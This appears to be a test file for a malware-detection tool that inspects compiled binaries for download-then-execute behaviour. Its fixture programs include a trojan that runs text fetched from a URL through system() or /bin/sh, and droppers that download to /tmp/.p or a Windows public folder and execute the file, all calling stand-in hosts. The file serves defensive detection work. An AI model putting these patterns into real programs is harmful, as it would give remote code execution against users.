"""Functions that fetch from a URL and run a command (``facts.flow``), read from real programs:
Mach-O built by clang and ld64.lld (x86-64, arm64, a universal file of both; -O2 and -O0),
ELF built by gcc. The imports and selectors of the honest app and of the trojan are the same;
what differs is that the trojan fetches and runs in one function, the fetched text being the
command."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from binbuild import build_macho, compile_c
from binexam import behaviours, findings_of
from finalexam.analyze.binary.facts.parse import examine

# What the Objective-C sources need of Foundation, declared (no SDK here)
FOUNDATION = r"""
typedef unsigned long NSUInteger;
@interface NSObject
+ (id)alloc;
- (id)init;
@end
@interface NSString : NSObject
+ (id)stringWithUTF8String:(const char *)s;
- (id)initWithData:(id)data encoding:(NSUInteger)encoding;
- (const char *)UTF8String;
@end
@interface NSURL : NSObject
+ (id)URLWithString:(id)s;
@end
@interface NSData : NSObject
+ (id)dataWithContentsOfURL:(id)url;
- (signed char)writeToFile:(id)path atomically:(signed char)atomically;
@end
@interface NSArray : NSObject
+ (id)arrayWithObjects:(id)first, ...;
@end
@interface NSTask : NSObject
+ (id)launchedTaskWithLaunchPath:(id)path arguments:(id)arguments;
- (void)setLaunchPath:(id)path;
- (void)setArguments:(id)arguments;
- (void)launch;
@end
int system(const char *);
int NSApplicationMain(int, const char **);
static id text(const char *s) { return [NSString stringWithUTF8String:s]; }
"""

# Poseidon's xib2storyboard: every start runs what a web page says, then the app
TROJAN = (
    FOUNDATION
    + r"""
int main(int argc, const char **argv) {
    id url = [NSURL URLWithString:text("https://updates.example.com/check")];
    id data = [NSData dataWithContentsOfURL:url];
    system([[NSString alloc] initWithData:data encoding:4].UTF8String);
    return NSApplicationMain(argc, argv);
}
"""
)

# the same through NSTask: the fetched text becomes the task's arguments
TASK = (
    FOUNDATION
    + r"""
int main(int argc, const char **argv) {
    id data = [NSData dataWithContentsOfURL:[NSURL URLWithString:text("https://x.example/c")]];
    id command = [[NSString alloc] initWithData:data encoding:4];
    id task = [[NSTask alloc] init];
    [task setLaunchPath:text("/bin/sh")];
    [task setArguments:[NSArray arrayWithObjects:text("-c"), command, (id)0]];
    [task launch];
    return NSApplicationMain(argc, argv);
}
"""
)

# an updater: downloads in one function, starts its fixed helper in another
HONEST = (
    FOUNDATION
    + r"""
__attribute__((noinline)) static int fetch_update(void) {
    id data = [NSData dataWithContentsOfURL:[NSURL URLWithString:text("https://example.com/u")]];
    return [data writeToFile:text("/tmp/update.dmg") atomically:1];
}
__attribute__((noinline)) static void start_helper(void) {
    [NSTask launchedTaskWithLaunchPath:text("/usr/bin/open") arguments:(id)0];
    system("/usr/bin/open -a Helper");
}
int main(int argc, const char **argv) {
    if (fetch_update()) start_helper();
    return NSApplicationMain(argc, argv);
}
"""
)

# a dropper that saves what it fetched and starts a fixed path: one function, no direct flow
DROPPER = (
    FOUNDATION
    + r"""
int main(int argc, const char **argv) {
    id data = [NSData dataWithContentsOfURL:[NSURL URLWithString:text("https://x.example/p")]];
    [data writeToFile:text("/tmp/.p") atomically:1];
    return system("chmod +x /tmp/.p && /tmp/.p");
}
"""
)

RESOLVER = r"""
void *dlopen(const char *, int);
void *dlsym(void *, const char *);
int socket(int, int, int);
int main(void) {
    void *library = dlopen("/usr/lib/libsandbox.1.dylib", 1);
    int s = socket(2, 3, 17);
    return dlsym(library, "sandbox_init") != 0 && s;
}
"""

CURL = r"""
#include <stdlib.h>
void *curl_easy_init(void);
int curl_easy_setopt(void *, int, ...);
int curl_easy_perform(void *);
%s
"""
CURL_DROPPER = (
    CURL
    % r"""
int main(void) {
    void *curl = curl_easy_init();
    curl_easy_setopt(curl, 10002, "http://192.0.2.5/x");
    curl_easy_perform(curl);
    return system("sh /tmp/x");
}
"""
)
CURL_HONEST = (
    CURL
    % r"""
__attribute__((noinline)) int fetch(void) {
    void *curl = curl_easy_init();
    curl_easy_setopt(curl, 10002, "https://example.com/list");
    return curl_easy_perform(curl);
}
__attribute__((noinline)) int report(void) { return system("/usr/bin/logger fetched"); }
int main(void) { return fetch() || report(); }
"""
)


def _runs(path: Path) -> list[tuple[str, str, bool]]:
    return [(run.fetch, run.run, run.flows) for run in examine(path.read_bytes()).fetch_runs]


@pytest.mark.parametrize("arch", ["x86_64", "arm64"])
@pytest.mark.parametrize("optimise", ["-O2", "-O0"])
def test_fetched_text_run_by_system_is_critical(tmp_path: Path, arch: str, optimise: str) -> None:
    program = build_macho(tmp_path, "xib2storyboard", TROJAN, (arch,), (optimise,))
    facts = examine(program.read_bytes())
    (run,) = facts.fetch_runs
    assert (run.fetch, run.run, run.flows) == ("dataWithContentsOfURL:", "system", True)
    # the function's calls read as the source says them (selectors named from __objc_selrefs)
    calls = [call for call in run.calls if not call.startswith(("objc_", "alloc"))]
    assert calls[-5:] == [
        "URLWithString:",
        "dataWithContentsOfURL:",
        "initWithData:encoding:",
        "UTF8String",
        "system",
    ]
    found = behaviours(findings_of(program))
    assert set(found) == {"capability.behavior-runs-downloaded"}
    finding = found["capability.behavior-runs-downloaded"]
    assert finding.severity.value == "critical"
    details = finding.evidence.details
    assert "dataWithContentsOfURL:" in details["disassembly"]["runs-downloaded-data"]
    assert details["offsets"]["runs-downloaded-data (dataWithContentsOfURL: -> system)"] == (
        run.offset
    )


def test_universal_file_reads_every_slice(tmp_path: Path) -> None:
    program = build_macho(tmp_path, "app", TROJAN, ("x86_64", "arm64"))
    data = program.read_bytes()
    facts = examine(data)
    assert facts.arches == ["x86_64", "aarch64"]
    runs = facts.fetch_runs
    assert len(runs) == 2 and all(run.flows for run in runs)
    # offsets are the file's: the second slice's call is inside the second slice
    x86_64, arm64 = sorted(run.offset for run in runs)
    assert data[arm64 : arm64 + 4][3] & 0xFC == 0x94  # a bl, in the arm64 slice's bytes
    assert data[x86_64] == 0xE8  # call rel32


@pytest.mark.parametrize("arch", ["x86_64", "arm64"])
def test_fetched_text_given_to_a_task_flows(tmp_path: Path, arch: str) -> None:
    program = build_macho(tmp_path, "task", TASK, (arch,))
    assert _runs(program) == [("dataWithContentsOfURL:", "launch", True)]


@pytest.mark.parametrize("arch", ["x86_64", "arm64"])
def test_updater_that_runs_its_helper_elsewhere_is_clean(tmp_path: Path, arch: str) -> None:
    program = build_macho(tmp_path, "updater", HONEST, (arch,))
    assert _runs(program) == []
    assert behaviours(findings_of(program)) == {}


@pytest.mark.parametrize("arch", ["x86_64", "arm64"])
def test_download_and_fixed_command_in_one_function_is_high(tmp_path: Path, arch: str) -> None:
    program = build_macho(tmp_path, "dropper", DROPPER, (arch,))
    assert _runs(program) == [("dataWithContentsOfURL:", "system", False)]
    found = behaviours(findings_of(program))
    assert set(found) == {"capability.behavior-download-run"}
    assert found["capability.behavior-download-run"].severity.value == "high"


@pytest.mark.parametrize("arch", ["x86_64", "arm64"])
def test_macho_resolver_and_socket_calls_are_read(tmp_path: Path, arch: str) -> None:
    program = build_macho(tmp_path, "resolver", RESOLVER, (arch,), language="c")
    facts = examine(program.read_bytes())
    assert facts.resolved["sandbox_init"].via == "dlsym"
    assert facts.resolved["/usr/lib/libsandbox.1.dylib"].library
    assert [(c.function, c.arguments) for c in facts.constant_calls] == [("socket", (2, 3, 17))]


# libcurl's easy interface as a library of the test's own, linked as libcurl.so.4 would be
# (libcurl itself need not be installed: nothing is run)
LIBCURL = r"""
void *curl_easy_init(void) { return 0; }
int curl_easy_setopt(void *curl, int option, ...) { return 0; }
int curl_easy_perform(void *curl) { return 0; }
"""


def _curl_program(tmp_path: Path, name: str, source: str, flags: list[str]) -> Path:
    library = tmp_path / "libcurl.so"
    if not library.exists():
        compile_c(tmp_path, "libcurl.so", ["-shared", "-fPIC", "-O2"], LIBCURL)
    (tmp_path / f"{name}.c").write_text(source)
    out = tmp_path / name
    command = ["gcc", "-O2", *flags, "-o", str(out), str(tmp_path / f"{name}.c")]
    subprocess.run([*command, f"-L{tmp_path}", "-lcurl"], check=True, capture_output=True)
    return out


@pytest.mark.parametrize("strip", [False, True])
def test_elf_curl_then_system_in_one_function(tmp_path: Path, strip: bool) -> None:
    flags = ["-s"] if strip else []
    dropper = _curl_program(tmp_path, "dropper", CURL_DROPPER, flags)
    assert _runs(dropper) == [("curl_easy_perform", "system", False)]
    assert set(behaviours(findings_of(dropper))) == {"capability.behavior-download-run"}
    honest = _curl_program(tmp_path, "fetcher", CURL_HONEST, flags)
    assert _runs(honest) == []
    assert behaviours(findings_of(honest)) == {}


def test_curl_binary_is_a_network_tool(tmp_path: Path) -> None:
    dropper = _curl_program(tmp_path, "curl", CURL_DROPPER, [])
    assert _runs(dropper) and behaviours(findings_of(dropper)) == {}


WINDOWS = r"""
#include <windows.h>
#include <urlmon.h>
%s
"""
WIN_DROPPER = (
    WINDOWS
    % r"""
int main(void) {
    URLDownloadToFileA(0, "http://192.0.2.5/p.exe", "C:\\Users\\Public\\p.exe", 0, 0);
    return WinExec("C:\\Users\\Public\\p.exe", 0);
}
"""
)
WIN_UPDATER = (
    WINDOWS
    % r"""
__attribute__((noinline)) int fetch(void) {
    return URLDownloadToFileA(0, "https://example.com/u.msi", "u.msi", 0, 0);
}
__attribute__((noinline)) int start(void) { return WinExec("notepad.exe readme.txt", 1); }
int main(void) { return fetch() || start(); }
"""
)


def _windows_program(tmp_path: Path, name: str, source: str) -> Path:
    (tmp_path / f"{name}.c").write_text(source)
    out = tmp_path / f"{name}.exe"
    command = ["x86_64-w64-mingw32-gcc", "-O2", "-o", str(out), str(tmp_path / f"{name}.c")]
    try:
        subprocess.run([*command, "-lurlmon"], check=True, capture_output=True)
    except FileNotFoundError:
        pytest.skip("MinGW is not installed (see .ci/system-packages)")
    return out


def test_pe_download_then_winexec_without_function_starts(tmp_path: Path) -> None:
    # PE has no function starts: the sweep runs from the download to the run, and a return
    # in between (the updater's two functions) ends it
    dropper = _windows_program(tmp_path, "dropper", WIN_DROPPER)
    assert _runs(dropper) == [("URLDownloadToFileA", "WinExec", False)]
    assert set(behaviours(findings_of(dropper))) == {"capability.behavior-download-run"}
    updater = _windows_program(tmp_path, "updater", WIN_UPDATER)
    assert _runs(updater) == []
